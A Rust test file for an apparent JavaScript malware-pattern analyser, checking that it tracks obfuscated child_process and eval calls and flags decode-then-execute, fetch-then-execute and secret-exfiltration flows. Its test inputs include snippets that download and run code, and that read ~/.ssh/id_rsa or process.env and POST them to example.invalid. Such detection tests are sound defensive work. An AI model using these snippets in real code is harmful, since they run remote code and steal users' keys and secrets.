use super::{ScriptFacts, parse, shape};
use crate::code::python::FlowKind;

fn read(text: &str) -> ScriptFacts {
    let mut facts = ScriptFacts {
        shape: shape(text),
        ..ScriptFacts::default()
    };
    parse(text, "x.js", &mut facts);
    facts
}

fn flows(text: &str) -> Vec<FlowKind> {
    read(text).flows.iter().map(|flow| flow.kind).collect()
}

#[test]
fn names_are_followed_through_aliases_and_computed_properties() {
    let paths = |text: &str| -> Vec<String> { read(text).references.into_iter().map(|r| r.path).collect() };
    assert_eq!(
        paths("const {exec: run} = require('node:child_process'); run('id')"),
        ["child_process.exec"]
    );
    assert_eq!(
        paths("import cp from 'child_process'; cp['ex' + 'ec']('id')"),
        ["child_process.exec"]
    );
    assert_eq!(
        paths("require('chi' + 'ld_process').execSync('id')"),
        ["child_process.execSync"]
    );
    assert_eq!(
        paths(
            "const c = require(['s','s','e','c','o','r','p','_','d','l','i','h','c'].reverse().join('')); c.exec('x')"
        ),
        ["child_process.exec"]
    );
    assert_eq!(paths("globalThis['ev' + 'al']('1')"), ["eval"]);
    assert_eq!(paths("(0, eval)('1')"), ["eval"]);
}

#[test]
fn what_is_decoded_and_run_is_read() {
    let text = "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())";
    let facts = read(text);
    assert_eq!(facts.flows[0].kind, FlowKind::DecodedToExecution);
    assert_eq!(facts.decoded[0].text, "require('child_process').exec('id')");
    assert!(
        facts
            .references
            .iter()
            .any(|r| r.path == "child_process.exec" && r.is_hidden)
    );
    let text = "function d(s){ return Buffer.from(s, 'hex').toString('utf8') } new Function(d('72657475726e20313b2b2b78'))()";
    assert_eq!(flows(text), [FlowKind::DecodedToExecution]);
    let text = "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,120,39,41))";
    assert_eq!(flows(text), [FlowKind::DecodedToExecution]);
    assert_eq!(flows("eval('1 + 1')"), []);
}

#[test]
fn data_is_followed_through_callbacks_and_files() {
    let text = "const https = require('https'); https.get('https://example.invalid/a', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); })";
    assert_eq!(flows(text), [FlowKind::NetworkToExecution]);
    assert_eq!(
        flows("fetch('https://example.invalid').then(r => r.text()).then(t => eval(t))"),
        [FlowKind::NetworkToExecution]
    );
    let text = "const fs = require('fs'), cp = require('child_process'); async function go() { const r = await fetch('https://example.invalid/x'); fs.writeFileSync('/tmp/x', await r.text()); cp.exec('sh /tmp/x'); } go()";
    assert_eq!(flows(text), [FlowKind::NetworkToExecution]);
    let text = "const os = require('os'), fs = require('fs'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://example.invalid', {method: 'POST', body: k})";
    assert_eq!(flows(text), [FlowKind::SecretToNetwork]);
    assert_eq!(
        flows(
            "const https = require('https'); const q = https.request({host: 'example.invalid'}); q.write(JSON.stringify(process.env)); q.end()"
        ),
        [FlowKind::SecretToNetwork]
    );
    assert_eq!(
        flows(
            "fetch('https://api.example.invalid', {headers: {accept: 'x'}}).then(r => r.json()).then(console.log)"
        ),
        []
    );
    assert_eq!(
        flows(
            "const port = process.env.PORT; require('http').createServer((q, r) => r.end('ok')).listen(port)"
        ),
        []
    );
}

#[test]
fn hostile_sources_end() {
    for text in [
        "(".repeat(10_000),
        "!".repeat(10_000),
        "a+".repeat(10_000),
        "[".repeat(10_000),
        "`${".repeat(10_000),
        "x=>".repeat(10_000),
        "if(a)".repeat(10_000),
        "a?".repeat(10_000),
        "{".repeat(10_000),
        "new ".repeat(10_000),
        "a.b(".repeat(10_000),
        "a()".to_owned() + &"()".repeat(10_000),
        "a".to_owned() + &".b".repeat(10_000),
        "<a>".repeat(10_000),
        "a**".repeat(10_000),
        "function f(){".repeat(10_000),
        "async()=>await ".repeat(10_000),
    ] {
        for name in ["x.js", "x.tsx"] {
            let mut facts = ScriptFacts::default();
            let stack = super::depth::stack(&text).unwrap();
            stacker::grow(stack, || parse(&text, name, &mut facts));
        }
    }
    let text = "x = ''; ".to_owned() + &"x += x + 'ab'; ".repeat(60);
    assert!(flows(&text).is_empty());
}
